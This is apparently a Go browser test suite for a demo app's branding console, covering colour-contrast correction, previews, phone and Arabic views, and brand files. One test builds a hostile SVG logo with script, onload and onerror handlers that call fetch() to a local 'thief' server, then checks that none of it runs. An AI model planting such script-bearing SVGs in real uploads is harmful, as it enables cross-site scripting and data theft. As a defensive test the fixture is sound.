package main

import (
	"io"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"strings"
	"sync/atomic"
	"testing"

	"github.com/chromedp/chromedp"
	"github.com/chromedp/chromedp/kb"
)

// TestBrowserBrand brands the demo with a colour that cannot be read, which is mended, and with a logo that is a program: the
// preview follows, and then the pages, the phone and the favicon, in light and in dark; nothing of the logo runs anywhere.
func TestBrowserBrand(t *testing.T) {
	t.Parallel()
	logo := filepath.Join(t.TempDir(), "logo.svg")
	var stolen atomic.Int64
	thief := httptest.NewServer(http.HandlerFunc(func(http.ResponseWriter, *http.Request) { stolen.Add(1) }))
	defer thief.Close()
	hostile := strings.ReplaceAll(`<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 32 32" width="32" height="32" onload="fetch('/stolen')">
		<script>fetch("/stolen"); document.documentElement.setAttribute("data-ran", "yes")</script>
		<foreignObject width="1" height="1"><img xmlns="http://www.w3.org/1999/xhtml" src="/stolen" onerror="fetch('/stolen')"/></foreignObject>
		<image href="/stolen" width="1" height="1"/><circle cx="16" cy="16" r="15" fill="#0b6e4f"/></svg>`, "/stolen", thief.URL)
	if err := os.WriteFile(logo, []byte(hostile), 0o600); err != nil {
		t.Fatal(err)
	}
	db := filepath.Join(t.TempDir(), "baton.db")
	address, stop := startDemo(t, "--db", db)
	page := newBrowser(t, "the presenter")
	page.looks(1280, 1, "light")
	page.open(address + "/console/brand")
	page.seeID("brand-form")
	const button = `getComputedStyle(document.querySelector('[data-testid="brand-light"] .button.primary')).backgroundColor`
	if got := eval[string](page, button); got != "rgb(33, 72, 184)" {
		t.Errorf("at first the button is %s", got)
	}

	// The preview follows what is typed.
	set := func(id, value string) {
		t.Helper()
		page.do("type "+value, chromedp.SetValue(byTestID(id), value),
			chromedp.Evaluate[chromedp.Void](`void document.querySelector('[data-testid="`+id+`"]').dispatchEvent(new Event("input", { bubbles: true }))`))
	}
	set("field-name", "Contoso Bank")
	set("field-nameArabic", "بنك كونتوسو")
	set("field-light", "#ffd400")
	page.eventually("that it cannot be read", `document.querySelector('[data-testid="problem"]')?.textContent.includes("has a contrast of 1.")`)
	page.click("use")
	page.seeID("wrong")
	page.eventually("what is offered in the preview", button+` === "rgb(130, 107, 0)"`)
	page.soundWithin("html", "brand-wrong")
	page.click("take-light")
	page.seeID("sound")
	page.eventually("the mended shade", button+` === "rgb(130, 107, 0)"`)
	page.eventually("the colour in dark, which was fine", `document.getElementById("dark").value === "#ffd400" &&
		getComputedStyle(document.querySelector('[data-testid="brand-dark"] .button.primary')).backgroundColor === "rgb(255, 212, 0)"`)
	page.do("leave dark to be found", chromedp.Evaluate[chromedp.Void](`document.getElementById("dark").value = ""`))
	const pickers = `["light", "dark"].map((name) => document.getElementById("pick-" + name).value).join(" ")`
	set("field-light", "#c81")
	page.eventually("the typed colour at its picker, and the one found for dark", pickers+`.startsWith("#cc8811 ") && !`+pickers+`.endsWith("#ffd400")`)
	page.do("pick a colour", chromedp.Evaluate[chromedp.Void](`{ const picker = document.getElementById("pick-light"); picker.value = "#c8102e"; picker.dispatchEvent(new Event("input", { bubbles: true })); }`))
	if typed := eval[string](page, `document.getElementById("light").value`); typed != "#c8102e" {
		t.Errorf("what was picked is not typed: %q", typed)
	}
	page.eventually("the preview's red", button+` === "rgb(200, 16, 46)"`)
	page.eventually("another red in dark", `((colour) => colour !== "rgb(200, 16, 46)" && colour !== "rgb(255, 212, 0)" && colour !== "rgb(156, 182, 255)")(getComputedStyle(document.querySelector('[data-testid="brand-dark"] .button.primary')).backgroundColor)`)
	page.do("press Enter in a field", chromedp.Evaluate[chromedp.Void](`void (window.before = true)`), chromedp.SendKeys(byTestID("field-name"), kb.Enter))
	page.eventually("the form checked, in its language", `!window.before && document.querySelector('html[lang="en"] [data-testid="sound"]') && document.getElementById("light").value === "#c8102e" && `+pickers+`.startsWith("#c8102e ")`)
	page.do("choose the logo", chromedp.SetUploadFiles(byTestID("logo"), []string{logo}))
	page.eventually("the logo in the preview", `document.querySelector('[data-testid="brand-light"] img.logo')?.naturalWidth === 32`)
	page.soundWithin("html", "brand")
	page.click("use")
	page.eventually("that it is used", `document.querySelector('[data-testid="brand-now"]')?.textContent === "Contoso Bank"`)
	src := eval[string](page, `document.querySelector('[data-testid="brand-light"] img.logo').getAttribute("src")`)

	// Everything is the brand's.
	register(page, address, "Ana Specimen")
	const branded = `document.querySelector(".brand img.logo")?.naturalWidth === 32 && document.title.endsWith("· Contoso Bank")
		&& document.querySelector('link[rel="icon"]').getAttribute("href")`
	page.eventually("the brand on the page with the code", branded+` === "`+src+`"`)
	for scheme, want := range map[string]func(string) bool{
		"light": func(c string) bool { return c == "rgb(200, 16, 46)" },
		"dark": func(c string) bool {
			return c != "rgb(200, 16, 46)" && c != "rgb(156, 182, 255)" && strings.HasPrefix(c, "rgb(2")
		}, // a lighter red
	} {
		page.looks(390, 1, scheme)
		if got := eval[string](page, `getComputedStyle(document.querySelector('.indicator [data-state="current"] .dot')).backgroundColor`); !want(got) {
			t.Errorf("in %s the current step is %s", scheme, got)
		}
	}
	page.shoot("brand-verify")
	page.looks(1280, 1, "light")
	phone := page.second("phone")
	phone.looks(390, 1, "light")
	link := fastLink(address, page.readQR())
	phone.open(link)
	phone.eventually("who asks", `document.querySelector("[data-testid=phone-from]").textContent.startsWith("Started in ")`)
	if asks := phone.text(`[data-testid=phone-asker]`); asks != "Contoso Bank" {
		t.Errorf("the phone says that %q asks", asks)
	}
	phone.eventually("the brand on the phone", branded+` === "`+src+`"`)
	if got := eval[string](phone, `getComputedStyle(document.querySelector("[data-testid=phone-start]")).backgroundColor`); got != "rgb(200, 16, 46)" {
		t.Errorf("the phone's button is %s", got)
	}

	phone.open(strings.Replace(link, "/go?", "/go?language=ar&", 1))
	phone.eventually("who asks, after it was looked up", `!document.querySelector("[data-testid=phone-start]").disabled`)
	if asks := phone.text(`[data-testid=phone-asker]`); asks != "بنك كونتوسو" {
		t.Errorf("in Arabic the phone says that %q asks", asks)
	}

	// Not even as a page of its own does the logo do anything.
	direct := page.second("the logo alone")
	direct.open(address + src)
	direct.eventually("the picture", `document.documentElement.localName === "svg"`)
	if eval[bool](direct, `document.documentElement.hasAttribute("data-ran")`) {
		t.Error("the logo's script ran")
	}
	if n := stolen.Load(); n != 0 {
		t.Errorf("the logo has told somebody else %d times", n)
	}
	phone.noProblems()
	page.noProblems()

	// It is kept, until it is dropped.
	stop()
	address, _ = startDemo(t, "--db", db)
	page.open(address + "/?language=en")
	page.eventually("the brand after a restart", branded)
	page.open(address + "/console/brand")
	page.click("back")
	page.seeID("notice")
	page.open(address + "/")
	page.eventually("the default", `document.title.endsWith("· Example Bank") && !document.querySelector('link[href^="/brand/"]')`)
}

// A brand from a file goes before a kept one, and a file that cannot be used says where.
func TestBrandFromAFile(t *testing.T) {
	t.Parallel()
	folder := t.TempDir()
	file := filepath.Join(folder, "brand.json")
	if err := os.WriteFile(file, []byte("{\"name\": \"Contoso Bank\",\n\"accent\": \"#ffd400\"}"), 0o600); err != nil {
		t.Fatal(err)
	}
	_, _, said := runWith(t.Context(), nil, "demo", "--brand", file, "--db", filepath.Join(folder, "baton.db"))
	for _, want := range []string{"--brand (BATON_BRAND)", "brand.json:2: accent.light: #ffd400 cannot be read in light mode", "The nearest shade that can be read is #826b00"} {
		if !strings.Contains(said, want) {
			t.Errorf("it says %q, want %q in it", said, want)
		}
	}
	if err := os.WriteFile(file, []byte(`{"name": "Contoso Bank", "accent": "#826b00"}`), 0o600); err != nil {
		t.Fatal(err)
	}
	address, _ := startDemo(t, "--brand", file)
	answer, err := http.Get(address + "/")
	if err != nil {
		t.Fatal(err)
	}
	defer answer.Body.Close()
	page, err := io.ReadAll(answer.Body)
	if err != nil || !strings.Contains(string(page), "· Contoso Bank</title>") || !strings.Contains(string(page), `href="/brand/`) {
		t.Errorf("the page is not the file's brand: %v %.400s", err, page)
	}
}
